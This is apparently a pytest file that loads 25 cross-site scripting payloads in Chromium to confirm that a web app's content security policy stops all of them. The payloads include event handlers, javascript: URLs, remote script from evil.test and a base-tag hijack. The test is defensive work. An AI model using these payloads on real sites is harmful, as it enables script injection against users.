"""The content security policy alone, in a real browser: whatever mark-up got through, nothing of it runs."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

import pytest
from playwright.sync_api import Browser, Route, sync_playwright

from trainer.web.headers import CONTENT_SECURITY_POLICY

HOST = "http://trainer.test"
HIT = "document.title='hit'"
BLOCKS = [
    "<script>{0}</script>",
    "<script src=data:text/javascript,{0}></script>",
    "<script type=module>{0}</script>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=\"{0}\">",
    "<svg onload=\"{0}\"></svg>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin=\"{0}\" attributeName=x dur=1s></svg>",
    "<body onload=\"{0}\">",
    "<body onpageshow=\"{0}\">",
    "<input autofocus onfocus=\"{0}\">",
    "<details open ontoggle=\"{0}\"></details>",
    "<video><source onerror=\"{0}\"></video>",
    "<audio src=x onerror=\"{0}\"></audio>",
    "<iframe srcdoc=\"<script>parent.{0}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{0}\"></iframe>",
    "<embed src=\"javascript:{0}\">",
    "<style onload=\"{0}\"></style>",
    "<link rel=stylesheet href=data:text/css,x onload=\"{0}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
    "<a id=click href=\"javascript:void({0})\">x</a>",
    "<form id=click><button formaction=\"javascript:void({0})\">x</button></form>",
    "<marquee onstart=\"{0}\">x</marquee>",
    "<base href=//evil.test/><script src=x.js></script>",
    "<div style=\"animation:a 1s\" onanimationstart=\"{0}\"><style>@keyframes a{{}}</style>x</div>",
]  # fmt: skip
WRAPS = ["{0}", "<p>{0}</p>", "<table><tr><td>{0}</table>", "<svg><foreignObject>{0}</foreignObject></svg>"]


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path="/usr/bin/chromium",
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        yield browser
        browser.close()


def hits(chromium: Browser, policy: str | None, wraps: list[str]) -> tuple[int, int]:
    """How many of the payloads ran, and how many there were."""
    payloads = [wrap.format(block.format(HIT)) for wrap, block in product(wraps, BLOCKS)]
    ran = 0
    context = chromium.new_context()

    def answer(route: Route) -> None:
        if not route.request.url.startswith(HOST):
            script = HIT if route.request.url.endswith("x.js") else ""
            route.fulfill(body=script, content_type="text/javascript")
            return
        number = route.request.url.rpartition("/")[2]
        body = payloads[int(number)] if number.isdecimal() else ""
        html = f"<!doctype html><title>safe</title>{body}"
        headers = {"Content-Security-Policy": policy} if policy else {}
        route.fulfill(body=html, content_type="text/html", headers=headers)

    context.route("**/*", answer)
    page = context.new_page()
    for number in range(len(payloads)):
        page.goto(f"{HOST}/{number}", wait_until="load")
        click = page.locator("#click")
        if click.count():
            click.first.locator("button").or_(click.first).last.click(no_wait_after=True, force=True)
        page.wait_for_timeout(30)
        ran += page.title() == "hit"
    context.close()
    return ran, len(payloads)


def test_nothing_runs_under_the_policy_and_most_of_it_would_without(chromium: Browser) -> None:
    ran, tried = hits(chromium, CONTENT_SECURITY_POLICY, WRAPS)
    assert (ran, tried) == (0, 100)
    without, _ = hits(chromium, None, WRAPS[:1])
    assert without >= 18  # the control: the payloads are live, and a hit is seen
